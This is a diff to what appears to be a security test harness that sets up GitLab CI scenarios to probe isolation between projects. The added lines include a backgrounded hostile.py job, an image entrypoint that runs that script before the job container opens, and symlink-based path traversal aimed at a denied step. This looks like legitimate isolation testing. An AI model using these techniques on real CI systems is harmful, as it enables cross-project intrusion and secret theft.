@@ -77,6 +77,12 @@ unpack:
   when: always
   dependencies: [pack]
   script: ["echo unpacked"]
+spoil:
+  stage: test
+  when: always
+  dependencies: []
+  script: ["%(python)s hostile.py forge targets.json >/dev/null 2>&1 & sleep 1"]
+  artifacts: {paths: [hostile.py]}
 bend:
   stage: test
   when: always
@@ -118,13 +124,27 @@ look:
   dependencies: []
   script: ["echo looked"]
 """
+FORGE = """
+forge:
+  stage: test
+  when: always
+  dependencies: []
+  image:
+    name: "%s"
+    entrypoint: [sh, -c, 'cd "$CI_PROJECT_DIR" && %s hostile.py forge targets.json & sleep 2; exec "$@"', sh]
+  script: ["echo inside"]
+"""
+"""The image's own entrypoint runs before the container is open, beside the program that opens it."""
 STEP = "spec: {}\n---\nexec: {command: [sh, -c, 'echo %s STEP RAN']}\n"
 SPELLINGS = {
     "plain": "../denied",
     "dots": "./.././outer/../denied",
     "expression": "../${{ 'denied' }}",
     "nested": "../middle",
+    "linked_folder": "../alias",
+    "linked_file": "../linked",
 }
+LINKS = "ln -s denied alias && mkdir linked && ln -s ../denied/step.yml linked/step.yml"
 
 
 @dataclass(slots=True)
@@ -248,6 +268,8 @@ class Scene:
         call = self.lab.call if not token else self._caller(token)
         number = int(call("POST", "/api/v4/projects", {"name": name})["id"])
         key = self._key + (2 if name == "earlier" else 0)
+        if name == "attacker" and self._engine is not None:
+            text += FORGE % (IMAGE, PYTHON)
         files = {".gitlab-ci.yml": text % {"python": PYTHON, "name": f"{name}-{self._nonce}", "key": key}}
         if secret:
             value = f"secret-of-{name}-{self._nonce}"
@@ -271,6 +293,7 @@ class Scene:
     @staticmethod
     def _steps() -> dict[str, str]:
         ways = [{"name": name, "step": step, "continue_on_error": True} for name, step in SPELLINGS.items()]
+        ways.insert(0, {"name": "make_links", "script": LINKS})
         outer = f"{json.dumps({'spec': {'remuda': 1}})}\n---\n{json.dumps({'run': ways})}\n"
         middle = "spec: {}\n---\nrun: [{name: inner, step: ../denied}]\n"
         return {
